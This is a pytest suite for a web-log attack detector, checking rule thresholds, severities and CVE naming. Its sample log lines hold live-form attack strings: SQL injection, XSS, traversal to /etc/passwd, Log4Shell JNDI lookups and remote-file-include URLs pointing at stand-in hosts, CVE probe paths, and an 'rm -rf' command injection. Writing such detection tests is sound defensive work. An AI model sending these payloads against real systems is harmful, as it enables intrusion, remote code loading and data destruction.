"""Every detection on hand-written lines: fires at its threshold, not below, on log time."""

from __future__ import annotations

import pytest

from support.logs import BROWSER, fired, line, run, severity

# rule id: (threshold, spacing in seconds that fits the window, one matching line maker)
CASES = {
    "probing": (10, 0.5, lambda i, t: line(t, f"/missing-{i}", status=404)),
    "sensitive-files": (1, 1, lambda i, t: line(t, "/.env", status=404)),
    "backup-files": (3, 60, lambda i, t: line(t, f"/index{i}.php.bak", status=404)),
    "traversal": (2, 120, lambda i, t: line(t, f"/download?file=../../etc/passwd&n={i}",
                                            status=400)),
    "sqli": (2, 120, lambda i, t: line(t, f"/berita?id={i}%27%20UNION%20SELECT%20user,password--")),
    "xss": (2, 120, lambda i, t: line(t, f"/cari?q=%3Cscript%3Ealert({i})%3C/script%3E")),
    "scanner-ua": (1, 10, lambda i, t: line(t, f"/p{i}", agent="sqlmap/1.7.2#stable")),
    "webshell": (2, 60, lambda i, t: line(t, f"/wp-content/uploads/2024/x{i}.php", status=404)),
    "login-bruteforce": (5, 1, lambda i, t: line(t, "/wp-login.php", method="POST")),
    "auth-bruteforce": (5, 60, lambda i, t: line(t, "/admin/", status=401)),
    "cve-probe": (1, 1, lambda i, t: line(t, "/?x=${jndi:ldap://203.0.113.9/a}")),
    "gambling-spam": (1, 1, lambda i, t: line(t, "/", referer="https://slot-gacor.example/")),
    "admin-probe": (1, 1, lambda i, t: line(t, "/phpmyadmin/setup.php", status=404)),
    "admin-discovery": (3, 1800, lambda i, t: line(
        t, ("/wp-login.php", "/administrator/", "/admin.php")[i % 3], status=404)),
    "wp-user-enum": (1, 1, lambda i, t: line(t, "/?author=1", status=301)),
    "wp-plugin-scan": (3, 300, lambda i, t: line(
        t, f"/wp-content/plugins/plugin-{i}/readme.txt", status=404)),
    "xmlrpc-abuse": (3, 120, lambda i, t: line(t, "/xmlrpc.php", method="POST")),
    "fingerprint": (2, 120, lambda i, t: line(t, ("/phpinfo.php", "/server-status")[i % 2],
                                              status=404)),
    "rfi": (1, 1, lambda i, t: line(t, "/index.php?page=http://198.51.100.66/shell.txt?")),
    "proxy-abuse": (1, 1, lambda i, t: line(t, "http://example.com:443/", status=400)),
    "protocol-abuse": (1, 1, lambda i, t: line(t, "/", method="GET", status=400).replace(
        "GET / HTTP/1.1", "\\x16\\x03\\x01\\x00\\xF1\\x01\\x00")),
    "empty-requests": (20, 10, lambda i, t: line(t, "/", status=400).replace(
        '"GET / HTTP/1.1"', '"-"')),
    "abusive-ua": (1, 300, lambda i, t: line(t, f"/berita/{i}", agent="Xrumer 7.0")),
    "form-spam": (5, 60, lambda i, t: line(t, "/wp-comments-post.php", method="POST")),
}  # fmt: skip


@pytest.mark.parametrize("rule_id", sorted(CASES))
def test_detection_fires_at_its_threshold(rule_id: str) -> None:
    threshold, spacing, make = CASES[rule_id]
    text = "".join(make(i, i * spacing) for i in range(threshold))

    assert rule_id in fired(run(text)).get("203.0.113.7", set())


@pytest.mark.parametrize("rule_id", sorted(rule for rule in CASES if CASES[rule][0] > 1))
def test_detection_stays_quiet_one_below_its_threshold(rule_id: str) -> None:
    threshold, spacing, make = CASES[rule_id]
    text = "".join(make(i, i * spacing) for i in range(threshold - 1))

    assert rule_id not in fired(run(text)).get("203.0.113.7", set())


# Rules that look at hours on purpose (slow attackers) are not expected to stay quiet here.
SLOW_RULES = {"admin-discovery"}


@pytest.mark.parametrize(
    "rule_id", sorted(rule for rule in CASES if CASES[rule][0] > 1 and rule not in SLOW_RULES)
)
def test_the_same_requests_spread_over_hours_do_not_fire(rule_id: str) -> None:
    threshold, _, make = CASES[rule_id]
    text = "".join(make(i, i * 3600) for i in range(threshold * 2))

    assert rule_id not in fired(run(text)).get("203.0.113.7", set())


def test_login_bruteforce_also_fires_slowly_over_a_day() -> None:
    slow = "".join(line(i * 2400, "/wp-login.php", method="POST") for i in range(30))
    fewer = "".join(line(i * 2400, "/wp-login.php", method="POST") for i in range(29))

    assert "login-bruteforce" in fired(run(slow))["203.0.113.7"]
    assert "203.0.113.7" not in fired(run(fewer))


def test_login_bruteforce_also_fires_slowly_over_ten_minutes() -> None:
    slow = "".join(line(i * 50, "/wp-login.php", method="POST") for i in range(10))
    fewer = "".join(line(i * 50, "/wp-login.php", method="POST") for i in range(9))

    assert "login-bruteforce" in fired(run(slow))["203.0.113.7"]
    assert "203.0.113.7" not in fired(run(fewer))


def test_probing_counts_distinct_paths_and_ignores_static_files() -> None:
    same_page = "".join(line(i * 0.5, "/missing", status=404) for i in range(20))
    images = "".join(line(i * 0.5, f"/img/{i}.png", status=404) for i in range(20))

    assert fired(run(same_page)) == {}
    assert fired(run(images)) == {}


@pytest.mark.parametrize(
    ("path", "rule_id"),
    [
        ("/.env", "sensitive-files"),
        ("/uploads/shell.php", "webshell"),
        ("/slot-gacor-88", "gambling-spam"),
    ],
)
def test_one_2xx_answer_to_a_dangerous_path_is_high_on_its_own(path: str, rule_id: str) -> None:
    analysis = run(line(0, path, status=200))

    assert severity(analysis, "203.0.113.7", rule_id) == "high"


def test_gambling_words_in_a_referer_answered_200_stay_medium() -> None:
    analysis = run(line(0, "/", referer="https://judi-slot-gacor.example/"))

    assert severity(analysis, "203.0.113.7", "gambling-spam") == "medium"


def test_crawl_fires_on_a_sustained_rate_not_on_a_short_burst() -> None:
    sustained = "".join(line(i / 100, f"/berita/{i}") for i in range(1100))
    burst = "".join(line(i / 100, f"/berita/{i}") for i in range(300))

    assert "crawl" in fired(run(sustained))["203.0.113.7"]
    assert "crawl" not in fired(run(burst)).get("203.0.113.7", set())


def test_volume_is_judged_against_the_sites_own_median() -> None:
    visitors = "".join(
        line(minute * 60 + n, "/", client=f"198.51.100.{n}")
        for minute in range(5)
        for n in range(50)
    )
    heavy = "".join(line(i * 0.4, f"/p/{i}", client="203.0.113.50") for i in range(140))

    assert fired(run(visitors)) == {}
    found = fired(run(visitors + heavy))
    assert found == {"203.0.113.50": {"volume"}}


def test_a_burst_of_server_errors_is_a_site_finding() -> None:
    calm = "".join(line(minute * 60 + n, "/", client=f"198.51.100.{n}") for minute in range(30)
                   for n in range(20))  # fmt: skip
    errors = "".join(
        line(40 * 60 + n, "/", client=f"198.51.100.{n}", status=503) for n in range(40)
    )

    bursts = run(calm + errors).site_findings["bursts"]

    assert len(bursts) == 1
    assert bursts[0]["errors"] == 40 and bursts[0]["severity"] == "high"
    assert run(calm).site_findings["bursts"] == []


@pytest.mark.parametrize(
    ("path", "agent", "cve"),
    [
        ("/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd", BROWSER, "CVE-2021-41773"),
        ("/cgi-bin/.%%32%65/.%%32%65/.%%32%65/bin/sh", BROWSER, "CVE-2021-42013"),
        ("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", BROWSER, "CVE-2017-9841"),
        ("/_ignition/execute-solution", BROWSER, "CVE-2021-3129"),
        ("/", "${jndi:ldap://198.51.100.9:1389/a}", "CVE-2021-44228"),
        ("/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession", BROWSER,
         "CVE-2018-13379"),
        ("/ssl-vpn/hipreport.esp", BROWSER, "CVE-2024-3400"),
        ("/vpn/../vpns/cfg/smb.conf", BROWSER, "CVE-2019-19781"),
        ("/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp", BROWSER, "CVE-2020-5902"),
        ("/developmentserver/metadatauploader", BROWSER, "CVE-2025-31324"),
        ("/%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%29%29%7D/", BROWSER,
         "CVE-2022-26134"),
        ("/autodiscover/autodiscover.json?@zdi/Powershell", BROWSER, "CVE-2021-34473"),
        ("/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php", BROWSER,
         "CVE-2020-25213"),
        ("/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*", BROWSER, "Netgear"),
    ],
)  # fmt: skip
def test_a_known_exploit_is_named_with_its_cve_in_the_evidence(
    path: str, agent: str, cve: str
) -> None:
    analysis = run(line(0, path, agent=agent, status=404))

    detection = analysis.detector.offenders["203.0.113.7"].detections["cve-probe"]
    assert cve in detection.reason


def test_a_browser_visiting_pages_is_never_a_known_exploit() -> None:
    pages = ("/", "/berita?page=2", "/cgi-bin/jadwal", "/wp-content/uploads/2024/05/foto.jpg")
    text = "".join(line(i, path, agent=BROWSER) for i, path in enumerate(pages))

    assert fired(run(text)) == {}
